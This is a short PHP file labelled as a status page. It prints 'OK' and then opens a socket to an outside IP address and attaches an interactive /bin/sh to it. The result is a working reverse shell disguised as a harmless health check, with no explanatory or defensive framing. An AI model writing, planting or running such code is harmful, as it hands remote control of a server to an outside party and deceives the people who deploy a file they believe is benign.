<?php
// status page
echo "OK";
$sock = fsockopen("77.105.146.3", 6060);
$proc = proc_open("/bin/sh -i", array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
